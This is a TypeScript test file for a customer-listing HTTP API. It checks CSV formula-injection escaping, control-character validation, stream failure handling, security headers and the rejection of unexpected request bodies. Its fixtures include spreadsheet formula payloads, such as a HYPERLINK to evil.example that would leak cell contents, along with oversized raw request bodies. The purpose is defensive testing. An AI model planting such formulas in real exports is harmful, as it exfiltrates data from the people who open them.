// Issue 13, items 2, 4, 5 and 6, over HTTP against a seeded SQLite database: CSV cells
// that a spreadsheet would run, control characters in nameFilter, a query that fails
// once streaming has begun, hardening headers, and request bodies nobody asked for.
import { connect } from "node:net";
import { Writable } from "node:stream";
import { parse } from "csv-parse/sync";
import express from "express";
import { pino } from "pino";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { CustomerInfo, ListCustomersResponse } from "../generated/schema.js";
import { createApp } from "../server/http/app.js";
import { docsPolicy, policyText } from "../server/http/docs-policy.js";
import { securityHeaders } from "../server/http/guards.js";
import { demoData, DEMO_PASSWORD } from "../server/demo/demo-data.js";
import { basic, listen, type Running } from "./support/http.js";
import { schemaErrors } from "./support/spec-schemas.js";
import { startTestServer, type TestServer } from "./support/test-server.js";

const spec = (await import("../generated/openapi.json", { with: { type: "json" } })).default as unknown as {
  components: {
    schemas: { CustomerInfo: { properties: Record<string, unknown> } };
    examples: { CustomersCsv: { value: string } };
  };
};

const demo = demoData(60);
const account = demo.accounts[0]!.id!;
const auth = { authorization: basic("sysadmin", DEMO_PASSWORD) };

// OWASP's formula triggers, each leading a stored value.
const triggers = ["=", "+", "-", "@", "\t", "\r"];
const hostile = triggers.map((c, i) => ({
  id: `cus_formula${i}`,
  accountId: account,
  name: `${c}HYPERLINK("http://evil.example/?d="&A2,"Click")`,
  referenceId: `${c}1+1`,
  tagIds: [],
}));
const harmless = { id: "cus_formulax", accountId: account, name: "Acme = Logistics - @home", referenceId: "'quoted", tagIds: [] };

let server: TestServer;
let failing: Running;

beforeAll(async () => {
  server = await startTestServer({ name: "hardening", customers: 60 });
  const store = server.store;
  await store.insertCustomers([...hostile, harmless]);
  // The same database, except that every stream fails as it starts, as a bad query would.
  const broken = new Proxy(store, {
    get(target, property) {
      if (property === "stream" || property === "streamCsv") {
        return async function* () {
          yield* [];
          throw new Error("the query failed");
        };
      }
      const value = Reflect.get(target, property, target) as unknown;
      return typeof value === "function" ? value.bind(target) : value;
    },
  });
  failing = await listen(createApp({ store: broken, logger: pino({ level: "silent" }) }));
});

afterAll(async () => {
  await failing.close();
  await server.close();
});

async function get(pathAndQuery: string, headers: Record<string, string> = auth, base: Running = server) {
  const response = await fetch(base.baseUrl + pathAndQuery, { headers });
  return { status: response.status, headers: response.headers, text: await response.text() };
}

function records(csv: string): Record<string, string>[] {
  return parse(csv, { columns: true, record_delimiter: "\r\n" }) as Record<string, string>[];
}

describe("CSV formula injection", () => {
  const ids = [...hostile, harmless].map((c) => c.id).join(",");

  it.each([
    ["a page", `/customers.csv?specificIds=${ids}`],
    ["all=true (streamed)", `/customers.csv?specificIds=${ids}&all=true`],
    ["format=csv", `/customers?specificIds=${ids}&format=csv`],
  ])("prefixes ' to every cell that starts with a trigger: %s", async (_label, url) => {
    const { status, text } = await get(url);
    expect(status).toBe(200);
    const rows = new Map(records(text).map((row) => [row.Id, row]));
    for (const customer of hostile) {
      const row = rows.get(customer.id)!;
      expect(row.Name, JSON.stringify(customer.name[0])).toBe(`'${customer.name}`);
      expect(row.ReferenceId).toBe(`'${customer.referenceId}`);
    }
    // A trigger inside a value, or a value that starts with ', is left alone.
    expect(rows.get(harmless.id)).toMatchObject({ Name: harmless.name, ReferenceId: harmless.referenceId });
  });

  it("leaves JSON as stored", async () => {
    const { text } = await get(`/customers?specificIds=${ids}`);
    const byId = new Map((JSON.parse(text) as ListCustomersResponse).items.map((c) => [c.id, c]));
    for (const customer of hostile) expect(byId.get(customer.id)).toMatchObject({ name: customer.name, referenceId: customer.referenceId });
  });

  it("takes its columns from the spec: CustomerInfo's properties in PascalCase, as the spec's example shows", async () => {
    const { text } = await get("/customers.csv?countPerPage=1");
    const header = text.split("\r\n")[0]!;
    const properties = Object.keys(spec.components.schemas.CustomerInfo.properties) as (keyof CustomerInfo)[];
    expect(header.split(",")).toEqual(properties.map((p) => p.charAt(0).toUpperCase() + p.slice(1)));
    expect(spec.components.examples.CustomersCsv.value.split("\r\n")[0]).toBe(header);
  });
});

describe("control characters in nameFilter", () => {
  const controls = ["\u0000", "\u0001", "\t", "\n", "\r", "\u001b", "\u001f", "\u007f", "\u0085", "\u009f"];

  const label = (c: string) => `U+${c.charCodeAt(0).toString(16).toUpperCase().padStart(4, "0")}`;

  it.each(controls.map((c) => [label(c), c]))("get a 400 naming nameFilter: %s", async (_label, c) => {
    const filter = encodeURIComponent(`abc${c}def`);
    for (const url of [
      `/customers?nameFilter=${filter}`,
      `/customers?nameFilter=${filter}&all=true`,
      `/customers.csv?nameFilter=${filter}&all=true`,
    ]) {
      const { status, text } = await get(url);
      expect(status, `${url}: ${text}`).toBe(400);
      const body = JSON.parse(text);
      expect(schemaErrors("ErrorResponse", body)).toEqual([]);
      expect(body.responseStatus.errors.map((e: { fieldName: string }) => e.fieldName)).toEqual(["nameFilter"]);
    }
  });

  it("still match names with characters beyond them: ä, ß, 東京, 🙂", async () => {
    for (const text of ["ä", "ß", "東京", "🙂", "abc def"]) {
      const { status } = await get(`/customers?nameFilter=${encodeURIComponent(text)}`);
      expect(status, text).toBe(200);
    }
  });
});

describe("a stream whose query fails", () => {
  it.each([
    ["JSON", "/customers?all=true"],
    ["CSV", "/customers.csv?all=true"],
  ])("fails before the status line (%s): an error in the error shape, not a cut-off 200", async (_label, url) => {
    const { status, text, headers } = await get(url, auth, failing);
    expect(status).toBe(500);
    expect(headers.get("content-type")).toMatch(/^application\/json/);
    expect(schemaErrors("ErrorResponse", JSON.parse(text))).toEqual([]);
  });
});

// What Node adds to every response itself.
const nodeOwn = new Set(["date", "connection", "keep-alive", "content-length", "transfer-encoding"]);

describe("hardening headers", () => {
  it.each([
    ["customer data", "/customers", auth],
    ["CSV", "/customers.csv", auth],
    ["a 401", "/customers", {}],
    ["a 400", "/customers?page=x", auth],
  ])("X-Content-Type-Options and Cache-Control: no-store on %s, and no ETag to revalidate with", async (_label, url, headers) => {
    const response = await get(url, headers);
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    expect(response.headers.get("cache-control")).toBe("no-store");
    expect(response.headers.get("x-frame-options")).toBe("DENY");
    expect(response.headers.get("etag")).toBeNull();
  });

  it("sends every header helmet itself sends, with its values, and no X-Powered-By", async () => {
    // helmet as plain middleware on a bare app: what the headers worked out once must match.
    const bare = express();
    bare.disable("x-powered-by");
    bare.use(securityHeaders(), (_req, res) => res.end());
    const reference = await listen(bare);
    const expected = [...(await fetch(reference.baseUrl)).headers].filter(([name]) => !nodeOwn.has(name));
    await reference.close();
    expect(expected.length).toBeGreaterThan(5);
    for (const url of ["/customers", "/customers?page=x", "/nowhere"]) {
      const { headers } = await get(url);
      for (const [name, value] of expected) expect(headers.get(name), `${url}: ${name}`).toBe(value);
      expect(headers.get("x-powered-by"), url).toBeNull();
    }
  });

  it("logs each request with the headers its response sent, the defaults written with the head included", async () => {
    const lines: string[] = [];
    const logger = pino(
      { level: "info" },
      new Writable({
        write(chunk, _encoding, done) {
          lines.push(String(chunk));
          done();
        },
      }),
    );
    const logged = await listen(createApp({ store: server.store, logger, validateResponses: false }));
    // The first page of a content type learns its header value one by one; the second is written in one call.
    for (let i = 0; i < 2; i++) await get("/customers?countPerPage=1", auth, logged);
    await logged.close();
    const requests = lines.map((line) => JSON.parse(line)).filter((entry) => entry.msg === "request completed");
    expect(requests).toHaveLength(2);
    for (const { req, res } of requests) {
      expect(res.statusCode).toBe(200);
      expect(res.headers).toMatchObject({ "x-request-id": req.id, "cache-control": "no-store", "x-frame-options": "DENY" });
      expect(res.headers["content-type"]).toMatch(/^application\/json/);
    }
  });

  it("sends nosniff and a no-content policy on routes outside the spec too", async () => {
    for (const url of ["/nowhere", "/openapi.json"]) {
      const response = await get(url, {});
      expect(response.headers.get("x-content-type-options"), url).toBe("nosniff");
      expect(response.headers.get("content-security-policy"), url).toBe("default-src 'none';frame-ancestors 'none'");
    }
  });

  it("sends /docs with the page's own policy as a header, framing forbidden", async () => {
    const response = await get("/docs", {});
    const policy = response.headers.get("content-security-policy") ?? "";
    const directives = policy.split(";").map((d) => d.trim());
    expect(directives).toContain("frame-ancestors 'none'");
    for (const directive of policyText(docsPolicy).split("; ")) expect(directives).toContain(directive);
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
  });
});

/** A request written by hand, so the body can be announced and never finished. */
function rawRequest(head: string[], body: Buffer): Promise<{ status: number; head: string; body: string }> {
  const { port, hostname } = new URL(server.baseUrl);
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), hostname);
    const chunks: Buffer[] = [];
    const timer = setTimeout(() => {
      socket.destroy();
      reject(new Error("no answer while the body was still coming"));
    }, 5000);
    socket.on("data", (chunk) => chunks.push(chunk));
    socket.on("error", () => {});
    socket.on("close", () => {
      clearTimeout(timer);
      const text = Buffer.concat(chunks).toString("utf8");
      const [headText = "", bodyText = ""] = text.split("\r\n\r\n");
      resolve({ status: Number(headText.split(" ")[1]), head: headText.toLowerCase(), body: bodyText });
    });
    socket.write(`${[...head, `Authorization: ${auth.authorization}`, ""].join("\r\n")}\r\n`);
    socket.write(body);
  });
}

describe("a request body on an operation that declares none", () => {
  const first = Buffer.alloc(64 * 1024, 0x61);

  it.each([
    ["5 MB of octet-stream", ["Content-Type: application/octet-stream", `Content-Length: ${5 * 1024 * 1024}`], first],
    ["1 MB of JSON", ["Content-Type: application/json", `Content-Length: ${1024 * 1024}`], Buffer.from(`{"a":"${"b".repeat(60_000)}`)],
    ["a chunked body", ["Content-Type: text/plain", "Transfer-Encoding: chunked"], Buffer.from("10000\r\n")],
  ])("is refused with a 400 before the body is read: %s", async (_label, headers, sent) => {
    const response = await rawRequest(["GET /customers HTTP/1.1", "Host: 127.0.0.1", ...headers], sent);
    expect(response.status).toBe(400);
    expect(response.head).toContain("connection: close");
    const error = JSON.parse(response.body);
    expect(schemaErrors("ErrorResponse", error)).toEqual([]);
    expect(error.responseStatus).toMatchObject({ errorCode: "BodyNotAllowed", errors: [{ fieldName: "body" }] });
  });

  it("lets an empty body through", async () => {
    const response = await rawRequest(
      ["GET /customers?countPerPage=1 HTTP/1.1", "Host: 127.0.0.1", "Content-Length: 0", "Connection: close"],
      Buffer.alloc(0),
    );
    expect(response.status).toBe(200);
  });
});
